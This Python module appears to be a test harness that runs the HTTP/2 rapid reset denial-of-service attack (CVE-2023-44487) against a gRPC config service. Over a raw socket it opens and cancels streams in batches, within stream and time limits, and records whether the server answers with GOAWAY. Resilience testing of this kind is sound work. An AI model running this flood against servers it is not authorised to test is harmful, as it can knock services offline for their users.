"""HTTP/2 abuse that a gRPC client cannot express, with the `h2` library over a real socket:
the rapid reset (CVE-2023-44487) — open a stream, cancel it at once, again and again, on one
connection, without a token."""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

RESOLVE = "/llmconfig.v1.LLMConfigService/ResolveLLMConfig"


@dataclass
class Flood:
    streams: int = 0  # streams opened and reset before the server closed the connection
    seconds: float = 0.0
    goaway: bool = False  # the server said GOAWAY
    closed: bool = False  # the server ended the connection (GOAWAY, then EOF or a reset)
    goaway_error: str = ""


def rapid_reset(host: str, port: int, max_streams: int, max_seconds: float,
                batch: int = 100) -> Flood:
    """Open and reset streams on one connection until the server closes it, `max_streams`
    have gone, or `max_seconds` have passed."""
    result = Flood()
    began = time.monotonic()
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    connection = h2.connection.H2Connection(config=config)
    headers = [(":method", "POST"), (":scheme", "http"), (":path", RESOLVE),
               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    with socket.create_connection((host, port), timeout=10) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        sock.setblocking(False)
        while (result.streams < max_streams and time.monotonic() - began < max_seconds
               and not result.closed):
            try:
                for _ in range(batch):
                    stream = connection.get_next_available_stream_id()
                    connection.send_headers(stream, headers)
                    connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    result.streams += 1
                sock.setblocking(True)
                sock.settimeout(5)
                sock.sendall(connection.data_to_send())
                sock.setblocking(False)
            except (OSError, h2.exceptions.ProtocolError):
                result.closed = True
                break
            result.closed = _read(sock, connection, result)
        result.seconds = time.monotonic() - began
    return result


def _read(sock: socket.socket, connection: h2.connection.H2Connection, result: Flood) -> bool:
    """Take what the server sent; True once it has closed the connection."""
    while True:
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return result.goaway and False
        except OSError:
            return True
        if not data:
            return True
        try:
            events = connection.receive_data(data)
        except h2.exceptions.ProtocolError:
            return True
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                result.goaway = True
                result.goaway_error = str(event.error_code)
        try:
            sock.send(connection.data_to_send())
        except OSError:
            return True
